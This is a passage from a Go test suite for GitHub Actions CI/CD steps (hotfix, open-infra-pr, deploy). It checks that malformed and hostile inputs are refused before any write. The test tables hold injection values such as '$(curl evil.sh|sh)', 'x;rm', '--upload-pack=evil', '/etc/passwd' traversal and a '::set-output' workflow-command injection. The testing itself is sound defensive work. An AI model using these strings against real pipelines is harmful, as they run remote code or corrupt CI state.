package hardening

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-containerregistry/pkg/authn"
	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/static"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/cicd-excellence/actions/deploy"
	"github.com/cicd-excellence/actions/hotfix"
	"github.com/cicd-excellence/actions/internal/action"
	"github.com/cicd-excellence/actions/internal/testkit/githubtest"
	"github.com/cicd-excellence/actions/internal/testkit/localregistry"
	"github.com/cicd-excellence/actions/internal/testkit/steptest"
	"github.com/cicd-excellence/actions/internal/testkit/tools"
	openinfrapr "github.com/cicd-excellence/actions/open-infra-pr"
	"github.com/cicd-excellence/actions/publish"
	"github.com/cicd-excellence/actions/rulesets"
	"github.com/cicd-excellence/actions/setup"
)

// The tokens of the bad-input and injection runs besides secret: one that
// may read but not write, one GitHub never issued.
const (
	badReadToken    = "ghs_hardeningREADONLY0123456789"
	badReadLogin    = "hardening-reader[bot]"
	badUnknownToken = "ghs_hardeningUNKNOWN0123456789"
	// badMissingSHA is a well-formed commit SHA no repository has.
	badMissingSHA = "0123456789abcdef0123456789abcdef01234567"
)

// badCase is one bad input: the run's inputs and context, and what its
// error must say.
type badCase struct {
	name string
	env  []string // inputs and context on top of the table's
	// files are written into the workspace (a broken environment or
	// ruleset file).
	files map[string]string
	// setup changes the world (a token, a repository, a ruleset, a commit)
	// before the snapshot the run is compared with.
	setup func(t *testing.T, w *world)
	// input is the input the error names, as action.Inputf writes it
	// (input "name"); empty when the value does not come from an input.
	input string
	want  []string // further substrings of the error: the reason
	// byWrite: only a write can find it out (GitHub refuses it). The write
	// is attempted, refused, and nothing changes.
	byWrite bool
	login   string // the login of the run's token, when not secret's
	// anonymous: the run's token is one GitHub does not know, so its
	// requests have no login.
	anonymous bool
	masks     []string // the run's secrets besides secret, as masked
	// report: the step writes its report output on a failure it found
	// through the API (rulesets reports every repository it tried).
	report bool
}

// badRun is a prepared run of a step.
type badRun struct {
	step action.Step
	dir  string   // the workspace, "" for none
	env  []string // the runner's context and inputs before the case's own
	// secrets are the run's secrets to scan for and allow masks of;
	// default: its GitHub token.
	secrets []string
	// writes lists the mutating requests made outside the local GitHub
	// (the registry); nil when the step talks to GitHub only.
	writes func() []string
	// transport is the runtime's HTTP transport (nil: the default).
	transport http.RoundTripper
}

// run runs the prepared step with env.
func (r badRun) run(t testing.TB, env ...string) result {
	t.Helper()
	var more []steptest.Option
	if r.transport != nil {
		more = append(more, steptest.Transport(r.transport))
	}
	return steptest.RunWith(t, r.step, runOptions(r.dir, env, more...)...)
}

// badTable is the catalogue of one step.
type badTable struct {
	step    string
	repos   []string // the repositories whose state a refused run leaves as it was
	noWorld bool     // the step never talks to GitHub
	// seed prepares the shared world (files the cases point at), before
	// its snapshot.
	seed    func(t *testing.T, w *world)
	prepare func(t *testing.T, w *world) badRun
}

// run runs every case in parallel. A case that changes the world first
// (setup) or reaches a write gets a world of its own, compared before and
// after. The others share one world per table, each with a token and login
// of its own, so that every request (and write) is the case's own: a world
// and its snapshots cost a dozen git processes, which the two cores of CI
// would otherwise spend 200 times over. The shared world must end as it
// began.
func (tb badTable) run(t *testing.T, cases []badCase) {
	countBadInputs(t, tb.step, len(cases))
	var shared *world
	if !tb.noWorld {
		shared = newWorld(t)
		if tb.seed != nil {
			tb.seed(t, shared)
		}
		before := snapshot(t, shared.srv, tb.repos...)
		t.Cleanup(func() {
			if d := before.diff(snapshot(t, shared.srv, tb.repos...)); d != "" {
				t.Errorf("the refused runs changed their shared world: %s", d)
			}
		})
	}
	seen := map[string]bool{}
	for i, tc := range cases {
		if seen[tc.name] {
			t.Fatalf("case %q twice", tc.name)
		}
		seen[tc.name] = true
		if tc.input == "" && len(tc.want) == 0 {
			t.Fatalf("case %q checks nothing of its error", tc.name)
		}
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			w, token, login := shared, fmt.Sprintf("%s_%03d", secret, i), fmt.Sprintf("hardening-case-%03d[bot]", i)
			switch {
			case tb.noWorld:
				token, login = secret, secretLogin
			case tc.setup != nil || tc.byWrite || tc.anonymous:
				w, token, login = newWorld(t), secret, secretLogin
			default:
				shared.srv.AddToken(token, login, githubtest.Write)
			}
			r := tb.prepare(t, w)
			if tc.setup != nil {
				tc.setup(t, w)
			}
			writeFiles(t, r.dir, tc.files)
			env := r.env
			if w != nil {
				env = append(env, "INPUT_GITHUB_TOKEN="+token)
			}
			var before *ghState
			if w != nil && w != shared {
				s := snapshot(t, w.srv, tb.repos...)
				before = &s
			}
			res := r.run(t, append(env, tc.env...)...)

			var p problems
			secrets := r.secrets
			if len(secrets) == 0 {
				secrets = []string{token}
			}
			scanAll(&p, res, r.step, append(secrets, tc.masks...)...)
			checkRefusal(&p, res.Err, tc.input, tc.want)
			if tc.report {
				if res.Outputs["changed"] != "false" || !strings.Contains(res.Outputs["report"], `"error":`) {
					p.addf("the report of a failed run does not say so: %q", res.RawOutput)
				}
			} else {
				checkNoOutputs(&p, res)
			}
			if r.writes != nil {
				if ws := r.writes(); len(ws) > 0 {
					p.addf("writes outside GitHub before the refusal: %v", ws)
				}
			}
			if w != nil {
				logins := []string{login}
				if tc.login != "" {
					logins = append(logins, tc.login)
				}
				if tc.anonymous {
					logins = append(logins, "")
				}
				checkNoChange(&p, t, w, before, tb.repos, tc.byWrite, logins...)
			}
			p.report(t, res)
		})
	}
}

// checkNoChange: GitHub is as it was (before is nil on a shared world,
// checked when all its runs are done), and the run's tokens attempted no
// write, or (byWrite) attempted one that GitHub refused.
func checkNoChange(p *problems, t *testing.T, w *world, before *ghState, repos []string, byWrite bool, logins ...string) {
	if before != nil {
		if d := before.diff(snapshot(t, w.srv, repos...)); d != "" {
			p.addf("a refused run changed GitHub: %s", d)
		}
	}
	var attempted, refused []string
	for _, l := range logins {
		ok := map[string]bool{}
		for _, s := range writes(w.srv, l, true) {
			ok[s] = true
		}
		for _, s := range writes(w.srv, l, false) {
			attempted = append(attempted, s)
			if !ok[s] {
				refused = append(refused, s)
			}
		}
	}
	switch {
	case byWrite && len(refused) == 0:
		p.addf("no write was refused (attempted: %v): the case does not reach what it is about", attempted)
	case !byWrite && len(attempted) > 0:
		p.addf("mutating requests before the refusal: %v", attempted)
	}
}

// checkRefusal: the run failed, and its error names the input (as
// action.Inputf does) and says why.
func checkRefusal(p *problems, err error, input string, want []string) {
	if err == nil {
		p.addf("the bad input was accepted")
		return
	}
	msg := err.Error()
	if input != "" && !strings.Contains(msg, fmt.Sprintf("input %q", input)) {
		p.addf("the error does not name input %q: %v", input, err)
	}
	for _, s := range want {
		if !strings.Contains(msg, s) {
			p.addf("the error does not say %q: %v", s, err)
		}
	}
}

// vaultRepo makes acme/vault, a private repository the secret token cannot
// see: GitHub answers 404 to it, as for one that does not exist.
func vaultRepo(t *testing.T, w *world) {
	must(t, w.srv.CreateRepo(githubtest.RepoConfig{Owner: "acme", Name: "vault", Private: true}))
	_, err := w.srv.CommitFiles("acme", "vault", "main", map[string]string{"envs/dev.json": fmt.Sprintf(devJSON, w.app[0], w.app[0])}, "init")
	must(t, err)
	must(t, w.srv.SetRepoAccess(secret, "acme/vault", githubtest.None))
}

// readOnly registers badReadToken with read access everywhere.
func readOnly(t *testing.T, w *world) {
	w.srv.AddToken(badReadToken, badReadLogin, githubtest.Read)
}

// protect adds an active ruleset to an acme repository that forbids
// creating branches matching pattern.
func protect(repo, pattern string) func(t *testing.T, w *world) {
	return func(t *testing.T, w *world) {
		_, err := w.srv.AddRuleset("acme", repo, `{"name": "no new branches", "target": "branch", "enforcement": "active",
			"conditions": {"ref_name": {"include": ["`+pattern+`"], "exclude": []}}, "rules": [{"type": "creation"}]}`)
		must(t, err)
	}
}

// commitInfra commits files onto the infra repo's main.
func commitInfra(files map[string]string) func(t *testing.T, w *world) {
	return func(t *testing.T, w *world) {
		_, err := w.srv.CommitFiles("acme", "infra", "main", files, "change")
		must(t, err)
	}
}

// writeFiles writes files into a directory.
func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for n, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(n))
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(content), 0o644))
	}
}

// hugeJSON is a valid environment file over the 1 MiB cap.
func hugeJSON(sha string) string {
	return `{"api": {"tag": "` + sha + `"}, "padding": "` + strings.Repeat("x", 1<<20+16) + `"}` + "\n"
}

// world-independent facts: every world is a copy of one template.
func worldFacts(t *testing.T) *world {
	t.Helper()
	return worldTemplate(t, plainWorld).w
}

func TestBadInputHotfix(t *testing.T) {
	f := worldFacts(t)
	in := func(name, base string, more ...string) []string {
		return append([]string{"INPUT_NAME=" + name, "INPUT_BASE=" + base}, more...)
	}
	cases := []badCase{
		{name: "name missing", env: []string{"INPUT_BASE=main"}, input: "name", want: []string{"is required"}},
		{name: "name empty", env: in("", "main"), input: "name", want: []string{"is required"}},
		{name: "name with command substitution", env: in("$(curl evil.sh|sh)", "main"), input: "name"},
		{name: "name with backticks", env: in("`id`", "main"), input: "name"},
		{name: "name with a semicolon", env: in("x;rm", "main"), input: "name"},
		{name: "name with a pipe and redirect", env: in("x|tee>/tmp/y", "main"), input: "name"},
		{name: "name with ..", env: in("a..b", "main"), input: "name", want: []string{"'..'"}},
		{name: "name climbing out", env: in("../../main", "main"), input: "name"},
		{name: "name with @{", env: in("a@{1}", "main"), input: "name", want: []string{"'@{'"}},
		{name: "name ending .lock", env: in("x.lock", "main"), input: "name", want: []string{".lock"}},
		{name: "name component ending .lock", env: in("a.lock/b", "main"), input: "name", want: []string{".lock"}},
		{name: "name with a newline", env: in("a\nb", "main"), input: "name", want: []string{"control character"}},
		{name: "name with an escape", env: in("a\x1b[31mb", "main"), input: "name", want: []string{"control character"}},
		{name: "name with DEL", env: in("a\x7fb", "main"), input: "name", want: []string{"control character"}},
		{name: "name starting with -", env: in("-f", "main"), input: "name", want: []string{"option"}},
		{name: "name starting with --", env: in("--force", "main"), input: "name", want: []string{"option"}},
		{name: "name with a space", env: in("login fix", "main"), input: "name", want: []string{"space"}},
		{name: "name with ~", env: in("a~1", "main"), input: "name"},
		{name: "name with ^", env: in("a^", "main"), input: "name"},
		{name: "name with :", env: in("a:b", "main"), input: "name"},
		{name: "name with ?", env: in("a?", "main"), input: "name"},
		{name: "name with *", env: in("a*", "main"), input: "name"},
		{name: "name with [", env: in("a[0]", "main"), input: "name"},
		{name: "name with a backslash", env: in(`a\b`, "main"), input: "name"},
		{name: "name with a hidden component", env: in("a/.git", "main"), input: "name", want: []string{"starting with '.'"}},
		{name: "name ending in /", env: in("a/", "main"), input: "name"},
		{name: "name with //", env: in("a//b", "main"), input: "name"},
		{name: "name ending in .", env: in("a.", "main"), input: "name"},
		{name: "name @", env: in("@", "main"), input: "name"},
		{name: "name over-long", env: in(strings.Repeat("x", 201), "main"), input: "name", want: []string{"201 characters"}},
		{name: "name over-long with the prefix", env: in(strings.Repeat("x", 195), "main"), input: "name", want: []string{"the branch"}},
		{name: "name of an existing branch elsewhere", env: in("x", "main"), want: []string{"hotfixes/x already exists at " + short(f.hotfix)}},
		{name: "base missing", env: []string{"INPUT_NAME=x"}, input: "base", want: []string{"is required"}},
		{name: "base as an option", env: in("x", "--upload-pack=evil"), input: "base"},
		{name: "base with shell", env: in("x", "main;id"), input: "base"},
		{name: "base with revision syntax", env: in("x", "main~1"), input: "base"},
		{name: "base with ^", env: in("x", "HEAD^"), input: "base"},
		{name: "base range", env: in("x", f.app[0][:7]+".."+f.app[1][:7]), input: "base"},
		{name: "base reflog", env: in("x", "main@{1}"), input: "base"},
		{name: "base non-hex SHA", env: in("x", "g"+f.app[0][1:]), input: "base", want: []string{"is not a commit, tag or branch of acme/app"}},
		{name: "base SHA of another repository", env: in("x", f.infra), input: "base", want: []string{"is not a commit, tag or branch of acme/app"}},
		{name: "base SHA that does not exist", env: in("x", badMissingSHA), input: "base", want: []string{"is not a commit, tag or branch"}},
		{name: "base branch that does not exist", env: in("x", "release/9"), input: "base", want: []string{"is not a commit, tag or branch"}},
		{name: "base not on the default branch", env: in("x", f.feature), input: "base", want: []string{"is not on the default branch main"}},
		{name: "prefix with shell", env: in("x", "main", "INPUT_PREFIX=$(id)/"), input: "prefix"},
		{name: "prefix climbing out", env: in("x", "main", "INPUT_PREFIX=../"), input: "prefix"},
		{name: "prefix starting with -", env: in("x", "main", "INPUT_PREFIX=-x/"), input: "prefix"},
		{name: "require-on-default-branch not a boolean", env: in("x", "main", "INPUT_REQUIRE_ON_DEFAULT_BRANCH=yes"), input: "require-on-default-branch"},
		{name: "repository not owner/name", env: in("x", "main", "INPUT_REPOSITORY=acme"), input: "repository"},
		{name: "repository with a path", env: in("x", "main", "INPUT_REPOSITORY=acme/app/x"), input: "repository"},
		{name: "repository climbing out", env: in("x", "main", "INPUT_REPOSITORY=../app"), input: "repository"},
		{name: "repository with shell", env: in("x", "main", "INPUT_REPOSITORY=acme/$(id)"), input: "repository"},
		{name: "repository that does not exist", env: in("x", "main", "INPUT_REPOSITORY=acme/nope"), input: "repository", want: []string{"404", "does not exist"}},
		{name: "repository the token cannot see (404)", env: in("x", "main", "INPUT_REPOSITORY=acme/vault"), setup: vaultRepo, input: "repository", want: []string{"404", "cannot see it"}},
		{name: "token empty", env: in("x", "main", "INPUT_GITHUB_TOKEN="), input: "github-token", want: []string{"is empty"}},
		{name: "token with a space", env: in("x", "main", "INPUT_GITHUB_TOKEN=ghs_abc def"), masks: []string{"ghs_abc def"}, input: "github-token", want: []string{"whitespace"}},
		{name: "token with a newline", env: in("x", "main", "INPUT_GITHUB_TOKEN=ghs_abcLINE1\nghs_defLINE2"), masks: []string{"ghs_abcLINE1", "ghs_defLINE2"}, input: "github-token"},
		{name: "token GitHub does not know (401)", env: in("x", "main", "INPUT_GITHUB_TOKEN="+badUnknownToken), masks: []string{badUnknownToken}, anonymous: true, want: []string{"401", "the token is invalid or expired"}},
		{name: "token without write access (403)", env: in("y", "main", "INPUT_GITHUB_TOKEN="+badReadToken), setup: readOnly, login: badReadLogin, masks: []string{badReadToken},
			byWrite: true, want: []string{"403", "lacks a permission"}},
		{name: "protected branch refuses the creation", env: in("x2", "main"), setup: protect("app", "refs/heads/hotfixes/**"), byWrite: true, want: []string{"create branch hotfixes/x2", "422", "creations being restricted"}},
	}
	badTable{step: "hotfix", repos: []string{"acme/app", "acme/infra"}, prepare: func(t *testing.T, w *world) badRun {
		return badRun{step: hotfix.Step, env: w.env("acme/app", w.app[3])}
	}}.run(t, cases)
}

func TestBadInputOpenInfraPR(t *testing.T) {
	f := worldFacts(t)
	sha := f.app[3]
	set := func(lines ...string) string { return "INPUT_SET=" + strings.Join(lines, "\n") }
	cases := []badCase{
		{name: "infra-repo missing", env: []string{"INPUT_INFRA_REPO="}, input: "infra-repo", want: []string{"is required"}},
		{name: "infra-repo not owner/name", env: []string{"INPUT_INFRA_REPO=infra"}, input: "infra-repo"},
		{name: "infra-repo with a path", env: []string{"INPUT_INFRA_REPO=acme/infra/envs"}, input: "infra-repo"},
		{name: "infra-repo climbing out", env: []string{"INPUT_INFRA_REPO=../infra"}, input: "infra-repo"},
		{name: "infra-repo as a URL", env: []string{"INPUT_INFRA_REPO=https://github.com/acme/infra"}, input: "infra-repo"},
		{name: "infra-repo with shell", env: []string{"INPUT_INFRA_REPO=acme/infra;id"}, input: "infra-repo"},
		{name: "infra-repo that does not exist", env: []string{"INPUT_INFRA_REPO=acme/nope"}, input: "infra-repo", want: []string{"404", "does not exist"}},
		{name: "infra-repo that does not exist, with a base", env: []string{"INPUT_INFRA_REPO=acme/nope", "INPUT_BASE=main"}, input: "infra-repo", want: []string{"404", "does not exist"}},
		{name: "infra-repo the token cannot see (404)", env: []string{"INPUT_INFRA_REPO=acme/vault"}, setup: vaultRepo, input: "infra-repo", want: []string{"404", "cannot see it"}},
		{name: "environment with a slash", env: []string{"INPUT_ENVIRONMENT=prod/eu"}, input: "environment"},
		{name: "environment climbing out", env: []string{"INPUT_ENVIRONMENT=../prod"}, input: "environment"},
		{name: "environment absolute", env: []string{"INPUT_ENVIRONMENT=/etc/passwd"}, input: "environment"},
		{name: "environment ..", env: []string{"INPUT_ENVIRONMENT=.."}, input: "environment"},
		{name: "environment starting with -", env: []string{"INPUT_ENVIRONMENT=-rf"}, input: "environment"},
		{name: "environment with shell", env: []string{"INPUT_ENVIRONMENT=dev$(id)"}, input: "environment"},
		{name: "environment with a newline", env: []string{"INPUT_ENVIRONMENT=dev\nprod"}, input: "environment"},
		{name: "environment over-long", env: []string{"INPUT_ENVIRONMENT=" + strings.Repeat("e", 64)}, input: "environment"},
		{name: "file template escaping the repo", env: []string{"INPUT_FILE=../secrets/{environment}.json"}, input: "file", want: []string{"not a clean path"}},
		{name: "file template absolute", env: []string{"INPUT_FILE=/etc/{environment}.json"}, input: "file", want: []string{"absolute"}},
		{name: "file template with .. inside", env: []string{"INPUT_FILE=envs/../../{environment}.json"}, input: "file"},
		{name: "file template not JSON", env: []string{"INPUT_FILE=envs/{environment}.yaml"}, input: "file", want: []string{"not a .json file"}},
		{name: "file template with shell", env: []string{"INPUT_FILE=envs/$(id).json"}, input: "file"},
		{name: "file that does not exist", env: []string{"INPUT_FILE=deploy/{environment}.json"}, input: "file", want: []string{"does not exist"}},
		{name: "file with invalid JSON", env: []string{"INPUT_FILE=broken/invalid.json"}, input: "file", want: []string{"broken/invalid.json", "line 2"}},
		{name: "file empty", env: []string{"INPUT_FILE=broken/empty.json"}, input: "file", want: []string{"empty"}},
		{name: "file over the size cap", env: []string{"INPUT_FILE=broken/huge.json"}, input: "file", want: []string{"the limit is 1048576"}},
		{name: "file with a duplicate key", env: []string{"INPUT_FILE=broken/duplicate.json"}, input: "file", want: []string{`duplicate key "api"`}},
		{name: "file not an object", env: []string{"INPUT_FILE=broken/array.json"}, input: "file", want: []string{"must be a JSON object"}},
		{name: "file of the dev environment broken", setup: commitInfra(map[string]string{"envs/dev.json": "{\n  \"api\": {\"tag\": }\n}\n"}), input: "file", want: []string{"envs/dev.json", "line 2"}},
		{name: "set without =", env: []string{set("api.tag")}, input: "set", want: []string{"not path=value"}},
		{name: "set with an empty key", env: []string{set("api..tag=" + sha)}, input: "set", want: []string{"empty key"}},
		{name: "set with a leading dot", env: []string{set(".api.tag=" + sha)}, input: "set", want: []string{"empty key"}},
		{name: "set with a wildcard", env: []string{set("api.*=" + sha)}, input: "set", want: []string{"contains '*'"}},
		{name: "set with **", env: []string{set("**.tag=" + sha)}, input: "set"},
		{name: "set with #", env: []string{set("api.#=" + sha)}, input: "set", want: []string{"contains '#'"}},
		{name: "set with a gjson modifier", env: []string{set("api.tag|@reverse=" + sha)}, input: "set"},
		{name: "set with a query", env: []string{set(`api.#(tag=="x").tag=` + sha)}, input: "set"},
		{name: "set short SHA", env: []string{set("api.tag=" + sha[:7])}, input: "set", want: []string{"short or upper-case commit SHA"}},
		{name: "set upper-case SHA", env: []string{set("api.tag=" + strings.ToUpper(sha))}, input: "set", want: []string{"short or upper-case commit SHA"}},
		{name: "set empty value", env: []string{set("api.tag=")}, input: "set", want: []string{"empty"}},
		{name: "set value with an escape", env: []string{set("api.tag=v1\x1b[2J")}, input: "set", want: []string{"control character"}},
		{name: "set over-long value", env: []string{set("api.tag=" + strings.Repeat("v", 257))}, input: "set", want: []string{"longer than 256"}},
		{name: "set a key twice", env: []string{set("api.tag="+sha, "api.tag="+f.app[2])}, input: "set", want: []string{"twice"}},
		{name: "set SHA that does not exist", env: []string{set("api.tag=" + badMissingSHA)}, input: "set", want: []string{"is not a commit of acme/app"}},
		{name: "set commit of an unmerged branch", env: []string{set("api.tag=" + f.feature)}, input: "set", want: []string{"only merged commits"}},
		{name: "set key not in the file", env: []string{set("api.image=" + sha)}, input: "set", want: []string{"api.image"}},
		{name: "set key holding an object", env: []string{set("api=" + sha)}, input: "set", want: []string{"api"}},
		{name: "no set, and the run's commit is short", env: []string{"GITHUB_SHA=" + sha[:7]}, input: "set", want: []string{"not a full SHA"}},
		{name: "base with ..", env: []string{"INPUT_BASE=main..x"}, input: "base"},
		{name: "base starting with -", env: []string{"INPUT_BASE=--orphan"}, input: "base"},
		{name: "base with @{", env: []string{"INPUT_BASE=main@{1}"}, input: "base"},
		{name: "base ending .lock", env: []string{"INPUT_BASE=main.lock"}, input: "base"},
		{name: "base with a control character", env: []string{"INPUT_BASE=ma\tin"}, input: "base"},
		{name: "base over-long", env: []string{"INPUT_BASE=" + strings.Repeat("b", 201)}, input: "base"},
		{name: "base that does not exist", env: []string{"INPUT_BASE=release"}, input: "base", want: []string{"does not exist in acme/infra"}},
		{name: "merge not a mode", env: []string{"INPUT_MERGE=yes"}, input: "merge", want: []string{"auto, admin, none"}},
		{name: "merge-method not a method", env: []string{"INPUT_MERGE_METHOD=fast-forward"}, input: "merge-method"},
		{name: "merge-timeout not a duration", env: []string{"INPUT_MERGE_TIMEOUT=forever"}, input: "merge-timeout"},
		{name: "merge-timeout negative", env: []string{"INPUT_MERGE_TIMEOUT=-5m"}, input: "merge-timeout"},
		{name: "merge-timeout over a job's life", env: []string{"INPUT_MERGE_TIMEOUT=7h"}, input: "merge-timeout", want: []string{"6h"}},
		{name: "title with a newline", env: []string{"INPUT_TITLE=dev\n::set-output name=merged::true"}, input: "title", want: []string{"one line"}},
		{name: "title over-long", env: []string{"INPUT_TITLE=" + strings.Repeat("t", 201)}, input: "title"},
		{name: "body over-long", env: []string{"INPUT_BODY=" + strings.Repeat("b", 20001)}, input: "body"},
		{name: "label over-long", env: []string{"INPUT_LABELS=" + strings.Repeat("l", 51)}, input: "labels"},
		{name: "reviewer not a user name", env: []string{"INPUT_REVIEWERS=bad user!"}, input: "reviewers"},
		{name: "reviewer with shell", env: []string{"INPUT_REVIEWERS=$(id)"}, input: "reviewers"},
		{name: "draft not a boolean", env: []string{"INPUT_DRAFT=maybe"}, input: "draft"},
		{name: "draft with merge auto", env: []string{"INPUT_DRAFT=true", "INPUT_MERGE=auto"}, input: "merge", want: []string{"draft"}},
		{name: "dry-run not a boolean", env: []string{"INPUT_DRY_RUN=1"}, input: "dry-run"},
		{name: "create-missing not a boolean", env: []string{"INPUT_CREATE_MISSING=on"}, input: "create-missing"},
		{name: "allow-downgrade not a boolean", env: []string{"INPUT_ALLOW_DOWNGRADE=y"}, input: "allow-downgrade"},
		{name: "promote-from climbing out", env: []string{"INPUT_ENVIRONMENT=staging", "INPUT_PROMOTE_FROM=../dev"}, input: "promote-from"},
		{name: "promote-from the environment itself", env: []string{"INPUT_ENVIRONMENT=staging", "INPUT_PROMOTE_FROM=staging"}, input: "promote-from"},
		{name: "promote-from with set", env: []string{"INPUT_ENVIRONMENT=staging", "INPUT_PROMOTE_FROM=dev", set("api.tag=" + sha)}, input: "set"},
		{name: "keys without promote-from", env: []string{"INPUT_KEYS=api.tag"}, input: "keys"},
		{name: "keys with a wildcard", env: []string{"INPUT_ENVIRONMENT=staging", "INPUT_PROMOTE_FROM=dev", "INPUT_KEYS=*.tag"}, input: "keys"},
		{name: "keys not in the source file", env: []string{"INPUT_ENVIRONMENT=staging", "INPUT_PROMOTE_FROM=dev", "INPUT_KEYS=api.image"}, input: "keys", want: []string{"api.image is not in envs/dev.json"}},
		{name: "app-repo not owner/name", env: []string{"INPUT_APP_REPO=app"}, input: "app-repo"},
		{name: "hotfix-prefix climbing out", env: []string{"INPUT_HOTFIX_PREFIX=../"}, input: "hotfix-prefix"},
		{name: "hotfix-prefix with shell", env: []string{"INPUT_HOTFIX_PREFIX=$(id)/"}, input: "hotfix-prefix"},
		{name: "token empty", env: []string{"INPUT_GITHUB_TOKEN="}, input: "github-token", want: []string{"is empty"}},
		{name: "token with a space", env: []string{"INPUT_GITHUB_TOKEN=ghs_abc def"}, masks: []string{"ghs_abc def"}, input: "github-token"},
		{name: "token GitHub does not know (401)", env: []string{"INPUT_GITHUB_TOKEN=" + badUnknownToken}, masks: []string{badUnknownToken}, anonymous: true, want: []string{"401", "the token is invalid or expired"}},
		{name: "token without write access (403)", env: []string{"INPUT_GITHUB_TOKEN=" + badReadToken}, setup: readOnly, login: badReadLogin, masks: []string{badReadToken},
			byWrite: true, want: []string{"403", "lacks a permission"}},
		{name: "protected branches refuse the PR branch", setup: protect("infra", "refs/heads/cicd-excellence/**"), byWrite: true, want: []string{"create branch cicd-excellence/dev/", "422", "creations being restricted"}},
	}
	// Broken environment files, on the shared world.
	seed := commitInfra(map[string]string{
		"broken/invalid.json":   "{\n  \"api\": {\"tag\": }\n}\n",
		"broken/empty.json":     "",
		"broken/huge.json":      hugeJSON(f.app[1]),
		"broken/duplicate.json": `{"api": {"tag": "` + f.app[1] + `"}, "api": {}}`,
		"broken/array.json":     `["` + f.app[1] + `"]`,
	})
	badTable{step: "open-infra-pr", repos: []string{"acme/app", "acme/infra"}, seed: seed, prepare: func(t *testing.T, w *world) badRun {
		return badRun{step: openinfrapr.Step, env: w.env("acme/app", w.app[3], "INPUT_INFRA_REPO=acme/infra")}
	}}.run(t, cases)
}

// infraCheckout clones the template world's infra repository (every
// world's is a copy of it), as actions/checkout leaves it but without any
// credentials in its config.
func infraCheckout(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	bare := filepath.Join(worldTemplate(t, plainWorld).dir, "acme", "infra.git")
	out, err := exec.Command("git", "clone", "--quiet", bare, dir).CombinedOutput()
	if err != nil {
		t.Fatalf("clone: %v\n%s", err, out)
	}
	return dir
}

func TestBadInputDeploy(t *testing.T) {
	f := worldFacts(t)
	deploying := func(kv ...string) []string {
		return append([]string{"INPUT_MODE=deploy", "INPUT_ENVIRONMENT=dev"}, kv...)
	}
	planning := func(kv ...string) []string {
		return append([]string{"INPUT_MODE=plan", "INPUT_BEFORE=" + f.infra, "INPUT_AFTER=" + f.infra}, kv...)
	}
	validating := func(kv ...string) []string { return append([]string{"INPUT_MODE=validate"}, kv...) }
	devFile := func(content string) map[string]string { return map[string]string{"envs/dev.json": content} }
	cases := []badCase{
		{name: "mode missing", env: []string{"INPUT_ENVIRONMENT=dev"}, input: "mode", want: []string{"is required"}},
		{name: "mode unknown", env: []string{"INPUT_MODE=apply"}, input: "mode", want: []string{"plan, deploy, validate"}},
		{name: "mode with shell", env: []string{"INPUT_MODE=deploy;id"}, input: "mode"},
		{name: "environments-dir climbing out", env: deploying("INPUT_ENVIRONMENTS_DIR=../envs"), input: "environments-dir"},
		{name: "environments-dir absolute", env: deploying("INPUT_ENVIRONMENTS_DIR=/etc"), input: "environments-dir"},
		{name: "environments-dir with .. inside", env: deploying("INPUT_ENVIRONMENTS_DIR=envs/../.."), input: "environments-dir"},
		{name: "environments-dir with shell", env: deploying("INPUT_ENVIRONMENTS_DIR=envs$(id)"), input: "environments-dir"},
		{name: "tracked with #", env: deploying("INPUT_TRACKED=api.#"), input: "tracked"},
		{name: "tracked ending in **", env: planning("INPUT_TRACKED=api.**"), input: "tracked"},
		{name: "order climbing out", env: deploying("INPUT_ORDER=dev, ../prod"), input: "order"},
		{name: "environment missing", env: []string{"INPUT_MODE=deploy"}, input: "environment", want: []string{"is required"}},
		{name: "environment climbing out", env: deploying("INPUT_ENVIRONMENT=../prod"), input: "environment"},
		{name: "environment absolute", env: deploying("INPUT_ENVIRONMENT=/etc/passwd"), input: "environment"},
		{name: "environment with a slash", env: deploying("INPUT_ENVIRONMENT=prod/eu"), input: "environment"},
		{name: "environment with shell", env: deploying("INPUT_ENVIRONMENT=dev;id"), input: "environment"},
		{name: "environment without a file", env: deploying("INPUT_ENVIRONMENT=qa"), input: "environment", want: []string{"has no file envs/qa.json"}},
		{name: "command missing", env: []string{"INPUT_MODE=deploy", "INPUT_ENVIRONMENT=dev", "INPUT_COMMAND="}, input: "command"},
		{name: "dry-run not a boolean", env: deploying("INPUT_DRY_RUN=yes"), input: "dry-run"},
		{name: "record-deployment not a boolean", env: deploying("INPUT_RECORD_DEPLOYMENT=maybe"), input: "record-deployment"},
		{name: "environment file with invalid JSON", env: deploying(), files: devFile("{\n  \"api\": {\"tag\": }\n}\n"), input: "environment", want: []string{"envs/dev.json", "line 2"}},
		{name: "environment file empty", env: deploying(), files: devFile(""), input: "environment", want: []string{"empty"}},
		{name: "environment file over the size cap", env: deploying(), files: devFile(hugeJSON(f.app[1])), input: "environment", want: []string{"the limit is 1048576"}},
		{name: "environment file with a number for a version", env: deploying(), files: devFile(`{"api": {"tag": 5}}`), input: "environment", want: []string{"api.tag"}},
		{name: "environment file with a version holding a line break", env: deploying(), files: devFile(`{"api": {"tag": "v1\nEVIL=1"}}`), input: "environment", want: []string{"control character"}},
		{name: "version-key not tracked", env: deploying("INPUT_VERSION_KEY=api.image"), input: "version-key", want: []string{"not a tracked key"}},
		{name: "version-key with a wildcard", env: deploying("INPUT_VERSION_KEY=*.tag"), input: "version-key"},
		{name: "before short", env: planning("INPUT_BEFORE=" + f.infra[:7]), input: "before", want: []string{"not a full commit SHA"}},
		{name: "before not hex", env: planning("INPUT_BEFORE=" + strings.Repeat("z", 40)), input: "before"},
		{name: "after with shell", env: planning("INPUT_AFTER=$(id)"), input: "after"},
		{name: "before missing outside a push", env: []string{"INPUT_MODE=plan", "GITHUB_EVENT_NAME=workflow_dispatch"}, input: "before", want: []string{"is empty"}},
		{name: "before that does not exist", env: planning("INPUT_BEFORE=" + badMissingSHA), want: []string{"before " + badMissingSHA[:7], "not in the clone"}},
